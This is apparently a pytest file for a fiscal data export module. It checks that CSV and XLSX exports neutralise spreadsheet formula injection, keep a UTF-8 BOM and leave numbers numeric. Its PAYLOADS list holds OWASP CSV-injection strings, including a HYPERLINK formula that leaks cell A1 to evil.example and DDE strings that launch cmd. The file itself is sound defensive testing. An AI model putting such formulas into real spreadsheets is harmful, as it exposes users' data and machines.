"""CSV/XLSX downloads: UTF-8 BOM, formula injection neutralised (OWASP payloads), numbers left as numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from openpyxl import load_workbook

from fiscal import export

# OWASP "CSV Injection" examples and the other characters a spreadsheet may start a formula with.
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-1",
]
BENIGN = ["郴州市医疗保障局", "a=b", "1+1", "医保(=)经费", "", "'quoted already"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _frame() -> pl.DataFrame:
    n = len(PAYLOADS)
    return pl.DataFrame({
        "text": PAYLOADS,
        "amount": [-1.5, 2.25, 0.0, 1234567.89, -0.01] * (n // 5),
        "year": [2022] * n,
        "tags": [["=x", "ok"]] * n,
    })


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_dangerous_cells(payload: str) -> None:
    assert export.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", BENIGN)
def test_neutralise_leaves_plain_text(text: str) -> None:
    assert export.neutralise(text) == text
    assert export.neutralise(None) is None


def test_csv_has_bom_and_is_utf8() -> None:
    data = export.to_csv(pl.DataFrame({"agency": ["郴州市医疗保障局"], "amount": [1.5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "郴州市医疗保障局" in data.decode("utf-8-sig")


def test_csv_neutralises_text_but_not_numbers() -> None:
    data = export.to_csv(_frame())
    back = export.read_csv(data)
    assert back.get_column("text").to_list() == ["'" + p for p in PAYLOADS]
    # numbers stay numbers: a negative amount is written as a bare number, read back as float
    assert back.schema["amount"] == pl.Float64
    assert back.get_column("amount").to_list() == _frame().get_column("amount").to_list()
    assert "\n-1.5," in data.decode("utf-8-sig").replace("\r\n", "\n") or ",-1.5," in data.decode("utf-8-sig")
    # list cells are joined, and then neutralised as text
    assert back.get_column("tags")[0] == "'=x; ok"
    # no cell starts like a formula
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(export.DANGEROUS_START) and not _is_number(c)]


def test_csv_round_trips_plain_rows() -> None:
    df = pl.DataFrame({"agency": BENIGN, "amount": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0], "year": [2021] * 6})
    back = export.read_csv(export.to_csv(df))
    assert back.get_column("amount").to_list() == df.get_column("amount").to_list()
    assert back.get_column("agency").fill_null("").to_list() == BENIGN


def test_xlsx_has_no_formulas_and_keeps_numbers() -> None:
    data = export.to_xlsx(_frame(), sheet="sangong")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "sangong"
    header = [c.value for c in ws[1]]
    assert header == ["text", "amount", "year", "tags"]
    for row in ws.iter_rows(min_row=2):
        text, amount, year, tags = row
        assert text.data_type == "s" and str(text.value).startswith("'")
        assert amount.data_type == "n" and isinstance(amount.value, (int, float))
        assert year.value == 2022
        assert tags.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
